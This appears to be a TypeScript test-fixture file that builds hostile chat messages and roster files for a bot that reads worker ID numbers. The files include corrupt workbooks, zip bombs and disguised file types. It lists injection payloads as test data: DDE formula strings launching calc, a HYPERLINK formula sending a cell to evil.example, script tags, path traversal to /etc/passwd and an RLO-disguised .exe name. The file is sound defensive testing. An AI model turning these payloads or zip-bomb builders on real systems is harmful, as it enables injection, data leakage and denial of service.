/**
 * Hostile inputs for the fault suite: chat texts (huge, empty, control characters, invisible marks inside IDs,
 * mixed scripts, emoji, near-miss IDs, too many IDs) and roster files (truncated and corrupt workbooks, zip bombs
 * honest and lying, binary data named .csv, a PDF named .xlsx, formula payloads). Deterministic: the same
 * cases every run.
 */
import { createDeflateRaw, deflateRawSync } from 'node:zlib';
import { makeId } from '../domain/ids.js';
import { craftZip, csvText, xlsx } from '../roster/files.js';

/** One hostile chat text. `silent`: the documented silence (un-mentioned group chatter), else an answer. */
export interface TextCase {
  label: string;
  text: string;
  group?: { mentioned: boolean };
  silent?: boolean;
}

/** What reading a hostile file must end in: refused with a message containing `refusal`, or read. */
export type FileOutcome = { refused: RegExp } | { read: true };

/** One hostile roster file. */
export interface FileCase {
  label: string;
  name: string;
  bytes: Buffer;
  outcome: FileOutcome;
  /** What the chat answers instead, when its bytes send it to another flow than the roster's (a picture). */
  chatRefused?: RegExp;
}

/** People the cases use (none of them is in the simulator: their lookups answer "nothing found"). */
const PEOPLE = [
  { id: makeId('110105', '19850312', '219'), name: '赵敏' },
  { id: makeId('310104', '19790708', '046'), name: '钱多多' },
  { id: makeId('440305', '19911130', '123'), name: '欧阳娜娜' },
  { id: makeId('650102', '19680215', '087'), name: '阿依古丽·买买提' },
];

const ZERO_WIDTH = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff'];
const BIDI = ['\u200e', '\u200f', '\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2069'];
const CONTROLS = ['\u0000', '\u0001', '\u0007', '\u0008', '\u000b', '\u000c', '\u001b', '\u007f', '\u0085'];

/** An ID with `mark` put between every few characters. */
function sprinkle(id: string, mark: string, every: number): string {
  return [...id].map((ch, i) => (i > 0 && i % every === 0 ? mark + ch : ch)).join('');
}

/** The ID as an attacker might disguise it: every way of hiding something inside or around the number. */
function disguises(id: string): Array<[string, string]> {
  return [
    ...ZERO_WIDTH.map((m, i): [string, string] => [`零宽字符 U+${cp(m)}`, sprinkle(id, m, 3 + i)]),
    ...BIDI.map((m, i): [string, string] => [`方向控制 U+${cp(m)}`, sprinkle(id, m, 4 + (i % 5))]),
    ...CONTROLS.map((m, i): [string, string] => [`控制字符 U+${cp(m)}`, sprinkle(id, m, 5 + (i % 4))]),
    ['全角数字', [...id].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('')],
    [
      '阿拉伯-印度数字',
      [...id].map((c) => (/\d/.test(c) ? String.fromCharCode(0x660 + Number(c)) : c)).join(''),
    ],
    ['天城文数字', [...id].map((c) => (/\d/.test(c) ? String.fromCharCode(0x966 + Number(c)) : c)).join('')],
    [
      '数学粗体数字',
      [...id].map((c) => (/\d/.test(c) ? String.fromCodePoint(0x1d7ce + Number(c)) : c)).join(''),
    ],
    ['上标数字', [...id].map((c) => (/\d/.test(c) ? '⁰¹²³⁴⁵⁶⁷⁸⁹'[Number(c)] : c)).join('')],
    ['中间夹表情', sprinkle(id, '👷', 6)],
    ['组合附加符', sprinkle(id, '\u0301', 2)],
    ['西里尔字母 X', id.replace(/X$/, '\u0425')],
    ['孤立代理项', `${id.slice(0, 9)}\ud800${id.slice(9)}`],
    ['换行拆开', `${id.slice(0, 9)}\n${id.slice(9)}`],
    ['横线空格点', `${id.slice(0, 6)}-${id.slice(6, 14)} ${id.slice(14)}.`],
  ];
}

function cp(ch: string): string {
  return (ch.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0');
}

/** Near-miss IDs: each would be wrong if taken as it stands. */
function nearMisses(): Array<[string, string]> {
  const good = PEOPLE[0]?.id ?? '';
  const wrongCheck = good.slice(0, 17) + (good.endsWith('0') ? '1' : '0');
  return [
    ['17 位', good.slice(0, 17)],
    ['19 位', `${good}7`],
    ['20 位', `${good}77`],
    ['校验位错误', wrongCheck],
    ['平年 2 月 29 日', makeId('110105', '20230229', '011')],
    ['1900 年 2 月 29 日', makeId('110105', '19000229', '011')],
    ['13 月', makeId('110105', '19851312', '011')],
    ['0 日', makeId('110105', '19850300', '011')],
    ['地区码 00', makeId('000000', '19850312', '011')],
    ['省份 99', makeId('990101', '19850312', '011')],
    ['出生在未来', makeId('110105', '20300101', '011')],
    ['出生在 1800 年', makeId('110105', '18000101', '011')],
    ['15 位旧号', '110105850312013'],
    ['15 位旧号带 X', '11010585031201X'],
    ['小写 x', makeId('110105', '19491231', '002').toLowerCase()],
    ['T 加 17 位', `T${good.slice(0, 17)}`],
    ['两个 X', `${good.slice(0, 16)}XX`],
    ['手机号', '13800138000'],
    ['银行卡号', '6222021234567890123'],
  ];
}

/** At least 150 chat texts, each answered (or silently ignored in a group without a mention). */
export function hostileTexts(): TextCase[] {
  const [a, b, c, d] = PEOPLE as [
    (typeof PEOPLE)[0],
    (typeof PEOPLE)[0],
    (typeof PEOPLE)[0],
    (typeof PEOPLE)[0],
  ];
  const cases: TextCase[] = [];
  for (const person of [a, b]) {
    for (const [label, text] of disguises(person.id)) cases.push({ label, text: `${person.name} ${text}` });
  }
  for (const [label, text] of disguises(c.id)) cases.push({ label: `无姓名 ${label}`, text });
  for (const [label, text] of nearMisses()) {
    cases.push({ label, text: `${d.name} ${text}` });
    cases.push({ label: `群里 ${label}`, text: `${d.name} ${text}`, group: { mentioned: true } });
  }
  const many = Array.from({ length: 25 }, (_, i) =>
    makeId('110105', `1980${String((i % 12) + 1).padStart(2, '0')}15`, String(100 + i * 2 + 1)),
  );
  cases.push(
    { label: '空消息', text: '' },
    { label: '只有空白', text: ' \t\r\n\u3000\u00a0 ' },
    { label: '只有 NUL', text: '\u0000'.repeat(64) },
    { label: '只有零宽字符', text: ZERO_WIDTH.join('').repeat(100) },
    { label: '只有方向控制', text: BIDI.join('').repeat(100) },
    { label: '终端转义序列', text: '\u001b[2J\u001b[31m帮助\u001b[0m' },
    { label: '1 MB 汉字', text: '安全生产'.repeat(262_144) },
    { label: '1 MB 字母', text: 'a'.repeat(1_048_576) },
    { label: '1 MB 换行', text: '\n'.repeat(1_048_576) },
    { label: '10 万位数字', text: '7'.repeat(100_000) },
    { label: '10 万位数字夹空格', text: '1234 '.repeat(20_000) },
    { label: '1 MB 重复证件号', text: `${a.name} ${a.id}\n`.repeat(40_000) },
    { label: '1 MB 表情', text: '👷🔥'.repeat(131_072) },
    {
      label: '25 个证件号',
      text: many.map((id, i) => `工人${'甲乙丙丁戊己庚辛壬癸'[i % 10]} ${id}`).join('\n'),
    },
    { label: '25 个证件号无姓名', text: many.join(' ') },
    { label: '表情包围', text: `🙏🙏 ${b.name} ${b.id} 🙏🙏` },
    { label: '阿拉伯文夹中文', text: `مرحبا ${b.name} ${b.id} مرحبا` },
    { label: '日文韩文', text: `こんにちは 안녕하세요 ${c.name} ${c.id}` },
    { label: '公式载荷', text: `=CMD|' /C calc'!A0 ${a.name} ${a.id}` },
    { label: '脚本标签', text: `<script>alert(1)</script>${a.name}${a.id}` },
    { label: '格式串', text: `%s%n%x\${process.exit()} ${a.name} ${a.id}` },
    { label: '路径穿越', text: `../../etc/passwd ${a.name} ${a.id}` },
    { label: 'JSON 注入', text: `{"__proto__":{"admin":true}} ${a.name} ${a.id}` },
    { label: '导出加乱码', text: '导出\u0000\u202e问题清单' },
    { label: '帮助加 NUL', text: '帮助\u0000' },
    { label: '统计加零宽', text: '统\u200b计' },
    { label: '斜杠命令', text: '/导出 ../../../etc' },
    { label: '超长姓名', text: `${'王'.repeat(5000)} ${a.id}` },
    { label: '名字夹方向控制', text: `张\u202e伟 ${a.id}` },
    { label: '只有名字有零宽', text: `赵\u200b敏` },
    { label: '无意义汉字', text: '今天天气怎么样' },
  );
  cases.push(
    { label: '群里未@闲聊', text: '大家好', group: { mentioned: false }, silent: true },
    { label: '群里未@带号码', text: `${a.name} ${a.id}`, group: { mentioned: false }, silent: true },
    { label: '群里未@1 MB', text: 'x'.repeat(1_048_576), group: { mentioned: false }, silent: true },
    { label: '群里@空消息', text: '', group: { mentioned: true } },
    { label: '群里@1 MB', text: '安全'.repeat(524_288), group: { mentioned: true } },
  );
  return cases;
}

/** Raw deflate of `size` zero bytes, made in 1 MiB chunks so the test never holds the zeros. */
export async function deflatedZeros(size: number): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  const chunk = Buffer.alloc(1_048_576);
  for (let left = size; left > 0; left -= chunk.length) {
    const piece = left >= chunk.length ? chunk : chunk.subarray(0, left);
    if (!deflate.write(piece)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return Buffer.concat(out);
}

/** The parts every xlsx needs to pass the workbook check (small and honest). */
function workbookParts(): Array<{ name: string; data: Buffer; claimedSize: number; method: 8 }> {
  const parts = {
    '[Content_Types].xml':
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    'xl/workbook.xml': '<?xml version="1.0"?><workbook/>',
  };
  return Object.entries(parts).map(([name, text]) => {
    const raw = Buffer.from(text);
    return { name, data: deflateRawSync(raw), claimedSize: raw.length, method: 8 as const };
  });
}

/** A small real workbook roster. */
async function smallWorkbook(): Promise<Buffer> {
  return xlsx([
    {
      name: '名单',
      rows: [['姓名', '身份证号', '工种'], ...PEOPLE.map((p) => [p.name, p.id, '电工'])],
      textColumns: [2],
    },
  ]);
}

/** Cells that a spreadsheet could take for a formula. */
export const FORMULA_PAYLOADS = [
  "=CMD|' /C calc'!A0",
  "+1+cmd|'/c notepad'!A1",
  "-2+3+cmd|'/c calc'!A0",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
];

/** A csv roster whose cells carry formula payloads (IDs are valid: every row is verified and annotated). */
export function formulaCsv(): Buffer {
  const rows = FORMULA_PAYLOADS.map((payload, i) => [
    i % 2 === 0 ? payload : `${PEOPLE[i % PEOPLE.length]?.name}`,
    makeId('110105', '19800101', String(201 + i * 2)),
    i % 2 === 1 ? payload : '电工',
    payload,
  ]);
  return Buffer.from(csvText([['姓名', '身份证号', '工种', '备注'], ...rows]), 'utf8');
}

/** Seeded bytes that look like nothing in particular. */
function noise(length: number, seed: number): Buffer {
  const out = Buffer.alloc(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

const REFUSED_NOT_ROSTER = /不是可读取的表格文件/;

/**
 * Hostile roster files. `bombBytes` is how much the deflate bombs unpack to (keep it above the limit the test
 * reads under, so the honest one is refused by its declared size).
 */
export async function hostileFiles(bombBytes: number): Promise<FileCase[]> {
  const book = await smallWorkbook();
  const zeros = await deflatedZeros(bombBytes);
  const bombParts = workbookParts();
  const oneMiB = await deflatedZeros(1_048_576);
  const cases: FileCase[] = [
    { label: '空 csv', name: '名单.csv', bytes: Buffer.alloc(0), outcome: { refused: /空文件/ } },
    { label: '空 xlsx', name: '名单.xlsx', bytes: Buffer.alloc(0), outcome: { refused: /空文件/ } },
    { label: '正常 xlsx', name: '名单.xlsx', bytes: book, outcome: { read: true } },
    { label: 'xlsx 改名为 csv', name: '名单.csv', bytes: book, outcome: { read: true } },
    { label: '公式载荷 csv', name: '公式.csv', bytes: formulaCsv(), outcome: { read: true } },
    {
      label: '截断一半的 xlsx',
      name: '截断.xlsx',
      bytes: book.subarray(0, book.length >> 1),
      outcome: { refused: REFUSED_NOT_ROSTER },
    },
    {
      label: '只剩 100 字节的 xlsx',
      name: '截断.xlsx',
      bytes: book.subarray(0, 100),
      outcome: { refused: REFUSED_NOT_ROSTER },
    },
    {
      label: '少了结尾 10 字节的 xlsx',
      name: '截断.xlsx',
      bytes: book.subarray(0, book.length - 10),
      outcome: { refused: REFUSED_NOT_ROSTER },
    },
    {
      label: '中间被改乱的 xlsx',
      name: '损坏.xlsx',
      bytes: Buffer.concat([
        book.subarray(0, 200),
        noise(book.length - 400, 11),
        book.subarray(book.length - 200),
      ]),
      outcome: { refused: REFUSED_NOT_ROSTER },
    },
    {
      label: '诚实的压缩炸弹',
      name: '炸弹.xlsx',
      bytes: craftZip([
        ...bombParts,
        { name: 'xl/worksheets/sheet1.xml', data: zeros, claimedSize: bombBytes, method: 8 },
      ]),
      outcome: { refused: /解压后过大/ },
    },
    {
      label: '目录谎报大小的压缩炸弹',
      name: '炸弹.xlsx',
      bytes: craftZip([
        ...bombParts,
        { name: 'xl/worksheets/sheet1.xml', data: zeros, claimedSize: 2048, method: 8 },
      ]),
      outcome: { refused: /疑似压缩炸弹/ },
    },
    {
      label: '谎报为 0 字节的压缩炸弹',
      name: '炸弹.xlsx',
      bytes: craftZip([
        ...bombParts,
        { name: 'xl/sharedStrings.xml', data: zeros, claimedSize: 0, method: 8 },
      ]),
      outcome: { refused: /疑似压缩炸弹/ },
    },
    {
      label: '200 个条目共用一段数据',
      name: '炸弹.xlsx',
      bytes: craftZip([
        ...bombParts,
        ...Array.from({ length: 200 }, (_, i) => ({
          name: `xl/media/image${i}.bin`,
          data: oneMiB,
          claimedSize: 1_048_576,
          method: 8 as const,
        })),
      ]),
      outcome: { refused: /解压后过大/ },
    },
    {
      label: '压缩数据被截断',
      name: '坏包.xlsx',
      bytes: (() => {
        const sheet = Buffer.from(`<worksheet>${'<row/>'.repeat(500)}</worksheet>`);
        const data = deflateRawSync(sheet).subarray(0, 20);
        return craftZip([
          ...bombParts,
          { name: 'xl/worksheets/sheet1.xml', data, claimedSize: sheet.length, method: 8 },
        ]);
      })(),
      outcome: { refused: /已损坏/ },
    },
    {
      label: '未知压缩方式',
      name: '坏包.xlsx',
      bytes: (() => {
        const zip = craftZip(workbookParts());
        // Method 99 (AES encryption) in the first central directory record.
        zip.writeUInt16LE(99, zip.indexOf(Buffer.from('PK\x01\x02', 'latin1')) + 10);
        return zip;
      })(),
      outcome: { refused: /压缩方式/ },
    },
    {
      label: '随机二进制 csv',
      name: '名单.csv',
      bytes: noise(64_000, 3),
      outcome: { refused: REFUSED_NOT_ROSTER },
    },
    {
      label: 'PNG 改名为 csv',
      name: '照片.csv',
      bytes: Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), noise(4096, 5)]),
      outcome: { refused: REFUSED_NOT_ROSTER },
      // The chat knows a picture by its bytes, whatever its name, and says what is wrong with it.
      chatRefused: /不是能识别的图片|图片不完整/,
    },
    {
      label: '满是 NUL 的 csv',
      name: '名单.csv',
      bytes: Buffer.alloc(10_000),
      outcome: { refused: REFUSED_NOT_ROSTER },
    },
    {
      label: 'PDF 改名为 xlsx',
      name: '名单.xlsx',
      bytes: Buffer.concat([
        Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
        noise(8192, 7),
      ]),
      outcome: { refused: REFUSED_NOT_ROSTER },
    },
    {
      label: '损坏的旧版 xls（OLE2 开头，后面是乱码）',
      name: '名单.xls',
      bytes: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(4096, 9)]),
      outcome: { refused: /无法读取这个工作簿/ },
    },
    {
      label: 'Word 文档改名为 xlsx',
      name: '名单.xlsx',
      bytes: craftZip([{ name: 'word/document.xml', data: Buffer.from('<w:document/>') }]),
      outcome: { refused: /没有 Excel 或 ODS 工作簿/ },
    },
    {
      label: '没有表头的 csv',
      name: '名单.csv',
      bytes: Buffer.from('随便写点什么\n第二行\n'),
      outcome: { refused: /没有找到人员名单/ },
    },
    {
      label: '引号不闭合的 csv',
      name: '名单.csv',
      bytes: Buffer.from(
        `姓名,身份证号\n"${PEOPLE[0]?.name},${PEOPLE[0]?.id}\n${PEOPLE[1]?.name},${PEOPLE[1]?.id}\n`,
      ),
      outcome: { refused: /双引号没有成对/ },
    },
    {
      label: '一个 1 MB 单元格的 csv',
      name: '名单.csv',
      bytes: Buffer.from(`姓名,身份证号,备注\n${PEOPLE[1]?.name},${PEOPLE[1]?.id},${'长'.repeat(350_000)}\n`),
      outcome: { read: true },
    },
    {
      label: '单元格里有控制字符和方向控制',
      name: '名单.csv',
      bytes: Buffer.from(
        `姓名,身份证号\n${PEOPLE[2]?.name}\u202e,${sprinkle(PEOPLE[2]?.id ?? '', '\u200b', 4)}\n赵\u0007敏,${PEOPLE[0]?.id}\n`,
      ),
      outcome: { read: true },
    },
    {
      label: '20001 行的 csv',
      name: '大名单.csv',
      bytes: Buffer.from(`姓名,身份证号\n${'张三,110105198503120135\n'.repeat(20_001)}`),
      outcome: { refused: /超过单次上限/ },
    },
    {
      label: '50 万个空行的 csv',
      name: '空行.csv',
      bytes: Buffer.from(`姓名,身份证号\n${PEOPLE[3]?.name},${PEOPLE[3]?.id}\n${'\n'.repeat(500_000)}`),
      outcome: { read: true },
    },
  ];
  return cases;
}

/** File names a sender controls: each goes through the chat with a harmless csv. */
export function hostileFileNames(): string[] {
  return [
    `名单\u202Excl.exe`,
    `\u0000\u0007名单.csv`,
    `${'很长的名字'.repeat(2000)}.csv`,
    `../../../etc/passwd.csv`,
    `${PEOPLE[0]?.id}赵敏.csv`,
    '名单.exe',
    '',
  ];
}
